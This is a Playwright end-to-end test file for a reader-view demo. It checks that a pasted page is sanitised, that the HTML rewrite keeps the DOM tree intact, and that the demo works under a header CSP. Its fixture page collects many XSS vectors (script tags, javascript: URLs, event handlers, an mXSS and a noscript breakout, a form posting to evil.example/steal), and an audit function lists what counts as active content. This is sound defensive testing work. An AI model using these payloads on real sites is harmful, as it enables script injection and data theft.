// The demo page against hostile pages: nothing of a pasted page runs, loads
// anything but images, navigates or submits, in the reader view or in the
// "What was removed" view; the removed view's rewriting keeps the tree the
// browser builds (so the engine's paths find the right blocks); and the
// demo works when its CSP comes as an HTTP header too.
//
//   node --test tests/e2e/demo-safety.test.mjs

import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { after, before, test } from "node:test";

import { ROOT, launchBrowser, requireWasmBuild, screenshot, startSite } from "./lib/index.mjs";
import { DEMO_BROWSER_ARGS, assertContainsAll, openDemo, seedPage } from "./lib/demo.mjs";

let browser;
let site;
const seed = seedPage();

before(async () => {
  requireWasmBuild();
  site = await startSite();
  browser = await launchBrowser({ args: DEMO_BROWSER_ARGS });
});

after(async () => {
  await browser?.close();
  await site?.close();
});

const PARAGRAPHS = [
  "The city council voted on Monday to keep the old library open for another ten years, after a campaign by readers that gathered more than twelve thousand signatures in a single month.",
  "The building needs a new roof and its heating dates from the nineteen-sixties, but the council found that repairing it would cost less than half of what a new library on the edge of town would.",
  "Work on the roof will start in the spring. During the repairs the reading room will move to the ground floor, and the children's section will open on Saturdays as well as on weekdays.",
];

// Attack vectors everywhere: in the boilerplate (which the removed view
// shows) and inside the article (which the reader view shows).
const HOSTILE_PAGE = `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Old library stays open | Evil Gazette</title>
<meta http-equiv="refresh" content="1;url=https://evil.example/refreshed">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="https://evil.example/base/">
<link rel="stylesheet" href="https://evil.example/style.css">
<link rel="prefetch" href="https://evil.example/prefetch">
<link rel="preload" as="script" href="https://evil.example/preload.js">
<script>window.top.__pwned = "head script"; alert("head")</script>
<script src="https://evil.example/external.js"></script>
<style>@import url("https://evil.example/imported.css"); @font-face { font-family: x; src: url("https://evil.example/font.woff2"); } .banner { color: red; }</style>
</head>
<body onload="window.top.__pwned = 'body onload'">
<div class="banner" style="background: url(javascript:alert(1)); color: expression(alert(1))" onclick="alert(1)">
  <a href="javascript:window.top.__pwned='link'">Home</a> <a href="jav&#x09;ascript:alert(1)">News</a>
  <a href="https://evil.example/ping" ping="https://evil.example/pinged">Sport</a>
</div>
<nav data-inti-reason="ad" data-inti-label="fake label" id="inti-removed-0"><a href="/a">A</a> <a href="/b">B</a> <a href="/c">C</a></nav>
<iframe src="javascript:window.top.__pwned='iframe'"></iframe>
<iframe srcdoc="<script>window.top.__pwned='srcdoc'</script>"></iframe>
<object data="data:text/html,<script>window.top.__pwned='object'</script>"></object>
<embed src="https://evil.example/plugin.swf">
<svg width="200" height="30"><script>window.top.__pwned = "svg script"</script><animate onbegin="window.top.__pwned='animate'" attributeName="x" dur="1s"/><a xlink:href="javascript:alert(1)"><text x="5" y="20">svg link</text></a><image href="https://evil.example/svg-image.png"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.top.__pwned='mxss'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.top.__pwned='noscript'>">no script</p></noscript>
<form action="https://evil.example/steal" method="post"><input name="q" autofocus onfocus="window.top.__pwned='focus'"><button formaction="javascript:alert(1)">Search</button><input type="submit" value="Go"></form>
<main><article>
<h1>Old library stays open</h1>
<p>${PARAGRAPHS[0]} <img src="https://evil.example/pixel.gif" onerror="window.top.__pwned='img'" width="1" height="1"></p>
<p>${PARAGRAPHS[1]} <a href="javascript:window.top.__pwned='article link'" onmouseover="alert(1)">Read more</a></p>
<details open ontoggle="window.top.__pwned='toggle'"><summary>Details</summary>x</details>
<p>${PARAGRAPHS[2]}</p>
<div class="corner" style="position:fixed;right:0;bottom:0;width:12px;height:12px;background:red"></div>
<template><script>window.top.__pwned = "template"</script></template>
<xmp><script>window.top.__pwned = "xmp"</script></xmp>
<noembed><script>window.top.__pwned = "noembed"</script></noembed>
<video poster="javascript:alert(1)" src="https://evil.example/video.mp4" autoplay><source src="https://evil.example/video.webm"></video>
<audio src="https://evil.example/audio.mp3" autoplay></audio>
<img srcset="javascript:alert(1) 1x, https://evil.example/ok.png 2x" src="data:text/html,<script>alert(1)</script>">
<input type="image" src="https://evil.example/input-image.png">
</article></main>
<aside class="related"><h2>Related</h2><a href="/one">One</a> <a href="/two">Two</a> <a href="/three">Three</a></aside>
<footer>© Evil Gazette <a href="https://evil.example/privacy" target="_top">Privacy</a></footer>
<script>window.top.__pwned = "tail script"</script>
</body>
</html>`;

// Reads every element and attribute of a frame's document and reports what
// could run, load or navigate.
function auditDocument() {
  const problems = [];
  const all = [...document.querySelectorAll("*")];
  for (const el of all) {
    const name = el.localName.toLowerCase();
    if (["script", "iframe", "frame", "frameset", "object", "embed", "applet", "portal", "video", "audio", "source"].includes(name) && !(name === "source" && el.parentElement?.localName === "picture")) {
      problems.push(`<${name}>`);
    }
    // The reader view's own <base target="_blank"> has no address.
    if (name === "base" && (el.hasAttribute("href") || document.querySelectorAll("base").length > 1)) problems.push("<base href>");
    if (name === "meta" && el.hasAttribute("http-equiv") && el.getAttribute("http-equiv").toLowerCase() !== "content-security-policy") problems.push(`<meta http-equiv=${el.getAttribute("http-equiv")}>`);
    if (name === "link" && !/^(data:text\/css|http:\/\/127\.0\.0\.1:\d+\/frames\/)/.test(el.getAttribute("href") ?? "")) problems.push(`<link href=${el.getAttribute("href")}>`);
    // The page's CSS, handed over as data:, has no @import or @font-face
    // (they would fetch).
    if (name === "link" && /^data:text\/css/.test(el.getAttribute("href"))) {
      const css = decodeURIComponent(el.getAttribute("href").replace(/^data:text\/css;charset=utf-8,/, ""));
      if (/@import|@font-face|url\(\s*["']?javascript/i.test(css)) problems.push(`page CSS: ${css.slice(0, 80)}`);
    }
    for (const attr of el.attributes) {
      const value = attr.value.trim().toLowerCase();
      if (/^on/i.test(attr.name)) problems.push(`${name}[${attr.name}]`);
      if (["style", "srcdoc", "action", "formaction", "ping", "poster", "background", "autofocus", "xlink:href"].includes(attr.name)) problems.push(`${name}[${attr.name}]`);
      if (["src", "href", "srcset"].includes(attr.name) && name !== "link" && /(^|\s|,)(javascript|vbscript|data:text)/.test(value)) problems.push(`${name}[${attr.name}=${value.slice(0, 40)}]`);
      if (attr.name === "src" && name === "img" && !/^(https?:|data:image\/)/.test(value)) problems.push(`img[src=${value.slice(0, 40)}]`);
      if (attr.name === "href" && name === "a" && !/^(https?:|mailto:)/.test(value)) problems.push(`a[href=${value.slice(0, 40)}]`);
    }
  }
  return problems;
}

test("a hostile page: nothing runs, loads (but images), navigates or submits, in either view", async () => {
  const demo = await openDemo(browser, site);
  const { page } = demo;
  const dialogs = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss();
  });
  const topUrl = page.url();
  const historyLength = await page.evaluate(() => history.length);

  const outcome = await demo.extract(HOSTILE_PAGE, { url: "https://evil.example/news/library" });
  assert.equal(outcome.state, "done");
  const reader = await demo.readerFrame();
  assertContainsAll(await reader.locator("[data-inti-article]").innerText(), PARAGRAPHS, "the hostile page's article");
  assert.deepEqual(await reader.evaluate(auditDocument), [], "the reader view holds active content");

  const frame = await demo.removedFrame();
  // The page is there, with its boilerplate outlined...
  assert.ok((await frame.locator("[data-inti-reason]").count()) >= 3);
  await frame.getByText(PARAGRAPHS[0].slice(0, 40)).waitFor({ state: "attached" });
  // ...and none of its active content.
  assert.deepEqual(await frame.evaluate(auditDocument), [], "the removed view holds active content");
  // The page's own data-inti-* and inti- ids are not taken for ours.
  assert.equal(await frame.locator("[data-inti-label='fake label']").count(), 0);
  assert.equal(await frame.locator("[data-inti-reason]:not([data-inti-index])").count(), 0);
  // The page's style attributes still style it (they became rules).
  const styled = await frame.locator(".corner").evaluate((el) => {
    const style = getComputedStyle(el);
    return { position: style.position, background: style.backgroundColor };
  });
  assert.deepEqual(styled, { position: "fixed", background: "rgb(255, 0, 0)" });
  // Where the links and buttons are, to click them below.
  const targets = ["Search", "Go", "Home", "News", "svg link", "Read more", "Privacy", "Details"];
  const places = [];
  for (const text of targets) {
    places.push(await frame.getByText(text, { exact: true }).first().evaluate((el) => {
      const r = el.getBoundingClientRect();
      return { x: r.left + Math.min(r.width / 2, 20), y: r.top + r.height / 2, visible: r.top >= 0 && r.bottom <= innerHeight };
    }));
  }
  assert.ok(places.every((p) => p.visible), `a click target is out of view: ${JSON.stringify(places)}`);  await screenshot(page, "demo-hostile-removed");

  // Give the refresh and the autoplay a moment to try.
  await page.waitForTimeout(1500);
  assert.deepEqual(dialogs, []);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.equal(page.url(), topUrl);
  assert.equal(await page.evaluate(() => history.length), historyLength);
  assert.match(frame.url(), /^blob:http:\/\/127\.0\.0\.1:\d+\//);
  // Only images went out, and none of them from the tracking pixel's
  // onerror or other handlers (they are images anyway).
  const nonImages = demo.external.filter((request) => request.resourceType !== "image");
  assert.deepEqual(nonImages, [], "the page made requests other than images");
  const urls = demo.external.map((request) => request.url);
  for (const forbidden of ["style.css", "prefetch", "preload.js", "external.js", "imported.css", "font.woff2", "plugin.swf", "svg-image.png", "video.mp4", "video.webm", "audio.mp3", "input-image.png", "pinged", "refreshed", "steal"]) {
    assert.ok(!urls.some((url) => url.includes(forbidden)), `requested ${forbidden}: ${urls.join(", ")}`);
  }
  demo.consoleWatch.assertNoErrors();
  await demo.close();

  // Clicking around the page does nothing either. In a fresh page whose
  // frame playwright has not touched: its locators install listeners in
  // the frame, which the sandbox then blocks with console errors; here any
  // such error would come from the page itself.
  const clean = await openDemo(browser, site);
  const cleanDialogs = [];
  clean.page.on("dialog", (dialog) => {
    cleanDialogs.push(dialog.message());
    dialog.dismiss();
  });
  assert.equal((await clean.extract(HOSTILE_PAGE, { url: "https://evil.example/news/library" })).state, "done");
  await clean.page.locator("#tab-removed").click();
  await clean.page.waitForFunction(() => document.getElementById("panels").dataset.removedReady);
  const cleanFrame = await (await clean.page.locator("#removed-frame").elementHandle()).contentFrame();
  await cleanFrame.waitForLoadState("load");
  await clean.page.waitForTimeout(300);
  const box = await clean.page.locator("#removed-frame").boundingBox();
  for (const place of places) await clean.page.mouse.click(box.x + 1 + place.x, box.y + 1 + place.y);
  await clean.page.keyboard.press("Enter");
  await clean.page.waitForTimeout(1500);
  assert.deepEqual(cleanDialogs, []);
  assert.equal(await clean.page.evaluate(() => window.__pwned), undefined);
  assert.match(cleanFrame.url(), /^blob:http:\/\/127\.0\.0\.1:\d+\/[^#]*$/);
  assert.equal(clean.page.url(), topUrl);
  assert.deepEqual(clean.external.filter((request) => request.resourceType !== "image"), []);
  clean.consoleWatch.assertNoErrors();
  await clean.close();
});

// Pages whose markup is tricky for a tokenizer: raw text, script escapes,
// foreign content, quirks, the adoption agency, unclosed things.
const TRICKY = [
  "<p>a<table><tr><td>b</td></tr></table>",
  "<!doctype html><p>a<table><tr><td>b</td></tr></table>",
  "<table><style>td{}</style><tr><td><script>x</script>c</td></tr><style>td{}</style></table>",
  "<head><style>a{}</style><script>1</script><link rel=x></head><body><p>x",
  "<select><script>1</script><option>a</select><p>after",
  "<svg><style>a{}</style><g><script>1</script></g><foreignObject><style>b{}</style><p>x</p></foreignObject></svg><p>after",
  "<math><mi><style>x{}</style><b>y</b></mi></math><div>after</div>",
  '<script>document.write("</script><p>")</script><p>real</p>',
  "<script><!--<script>x</script>--></script><div>after</div>",
  "<script><!--<script>x</script>y</script><div>in script</div>--></script><div>after</div>",
  "<script><!--x--></script><div>after</div><script>a<!--b</script><p>c",
  "<textarea><p></textarea><p>t",
  "<title><b></title><p>x",
  "<noscript><p>ns</p></noscript><p>y",
  "<iframe><p>not</p></iframe><p>y",
  "<noembed><p>n</p></noembed><noframes><p>m</p></noframes><p>y",
  "<xmp><p>x</xmp><p>y",
  '<div title="a>b" style="c">x</div><p>',
  "<a href=x/><p>self</p>",
  "<p><!-- <div> --></p><div><!--></div><!---><div></div>",
  "<p></></p><?php echo '<div>' ?><div>",
  "<b><p>adoption</b>agency</p>",
  "<form><form><input></form></form><p>",
  "<div/style=x>q</div>",
  "<ul><li>a<li>b<style>c{}</style></ul>",
  "<p>unclosed <b>bold <i>both</p><p>next",
  "<table><tr><td><svg><desc><style>q{}</style><p>d</p></desc></svg></td></tr></table>",
  "<div><template><style>x{}</style><p>t</p></template><p>after</p></div>",
  "<p>x<script>never closed",
  "<style>never closed <p>",
  '<div a="1" a="2" onclick=x>dup</div>',
  '<DIV STYLE="x" ONCLICK="y">UP</DIV><P>',
  "<svg><![CDATA[<p>]]></svg><p>after",
  '<math><annotation-xml encoding="text/html"><style>a{}</style><div>x</div></annotation-xml></math><p>',
  "<svg><title><style>s{}</style></title><font color=red>breakout</font></svg><p>",
  "<p>a</p><div",
  "<div><script type=module>import x from '</script>'</script><p>after</p></div>",
  "<table><tr><td>1<p>2</table><p>3",
  '<img src="x" srcset="a 1x, b 2x" style="width:1px"><video><source src=x></video>',
  "<dl><dt>a<dd>b<dt>c</dl>",
];

test("the removed view's rewriting keeps the tree the browser builds", async () => {
  // A page of the site without the demo's CSP (DOMParser under that CSP
  // would report every style attribute of the originals).
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(new URL("examples/harbour-times.html", site.url).href);
  const fixtures = readdirSync(path.join(ROOT, "tests", "fixtures"))
    .filter((name) => name.endsWith(".html"))
    .map((name) => ({ name, html: readFileSync(path.join(ROOT, "tests", "fixtures", name), "utf8") }));
  const examples = readdirSync(path.join(ROOT, "www", "examples"))
    .filter((name) => name.endsWith(".html"))
    .map((name) => ({ name: `examples/${name}`, html: readFileSync(path.join(ROOT, "www", "examples", name), "utf8") }));
  const pages = [...TRICKY.map((html, i) => ({ name: `tricky ${i}: ${html.slice(0, 60)}`, html })), ...fixtures, ...examples];

  const results = await page.evaluate(async (pages) => {
    const { neutralizeHtml } = await import("/lib/neutralize.js");
    // Every element as "path name", where <style> counts as <template> (the
    // rewrite swaps them; they build the same tree).
    const shape = (doc) => {
      const out = [];
      const walk = (el, path) => {
        const name = el.localName === "style" ? "template" : el.localName;
        out.push(`${path} ${el.namespaceURI?.split("/").pop()}:${name}`);
        [...el.children].forEach((child, i) => walk(child, `${path}/${i + 1}`));
      };
      walk(doc.documentElement, "");
      return out;
    };
    return pages.map(({ name, html }) => {
      const before = shape(new DOMParser().parseFromString(html, "text/html"));
      const rewritten = neutralizeHtml(html);
      const afterDoc = new DOMParser().parseFromString(rewritten.html, "text/html");
      const after = shape(afterDoc);
      const firstDifference = before.findIndex((line, i) => line !== after[i]);
      const inert = ![...afterDoc.querySelectorAll("*")].some((el) =>
        [...el.attributes].some((a) => /^on|^style$|^srcdoc$/i.test(a.name)) ||
        (el.localName === "script" && (el.getAttribute("type") !== "text/x-inti-removed" || el.textContent !== "")) ||
        el.localName === "style");
      return {
        name,
        same: before.length === after.length && firstDifference === -1,
        difference: firstDifference === -1 ? null : [before[firstDifference], after[firstDifference]],
        counts: [before.length, after.length],
        inert,
      };
    });
  }, pages);

  const changed = results.filter((r) => !r.same);
  assert.deepEqual(changed, [], "the rewrite changed the tree of these pages");
  const active = results.filter((r) => !r.inert).map((r) => r.name);
  assert.deepEqual(active, [], "the rewrite left handlers, styles or scripts in these pages");
  assert.ok(results.length >= TRICKY.length + 20);
  await context.close();
});

test("the demo works when its CSP is sent as an HTTP header, on every file", async () => {
  const indexHtml = readFileSync(path.join(ROOT, "www", "index.html"), "utf8");
  const csp = /<meta http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(indexHtml)[1];
  const strictSite = await startSite({ headers: { "*": { "Content-Security-Policy": csp } } });
  try {
    const demo = await openDemo(browser, strictSite);
    const { page } = demo;
    const response = await page.request.get(new URL("worker.js", strictSite.url).href);
    assert.equal(response.headers()["content-security-policy"], csp);
    assert.match(await page.locator("#version").textContent(), /^v\d/);
    assert.equal((await demo.extract(seed.html, { url: seed.expect.url })).state, "done");
    const reader = await demo.readerFrame();
    assertContainsAll(await reader.locator("[data-inti-article]").innerText(), seed.expect.must_contain, "the article");
    const frame = await demo.removedFrame();
    assert.ok((await frame.locator('[data-inti-reason="ad"]').count()) >= 3);
    demo.consoleWatch.assertNoErrors();
    await demo.close();
  } finally {
    await strictSite.close();
  }
});
